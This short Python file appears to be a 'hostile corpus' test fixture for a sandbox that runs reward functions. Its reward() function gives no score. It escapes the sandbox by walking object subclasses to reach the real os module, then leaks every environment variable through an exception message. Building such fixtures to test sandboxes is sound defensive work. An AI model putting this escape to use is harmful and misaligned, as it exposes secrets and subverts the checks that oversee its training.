"""Hostile corpus: escape environ (reaches the real os module through object subclasses)."""

CANARY_DIR = "/tmp/reward_search_canary"
PORT = 47653


def _os():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise LookupError("no os")


def reward(prompts, completions, answer, **kwargs):
    g = _os()
    raise ValueError("environment: " + repr(dict(g["environ"])))
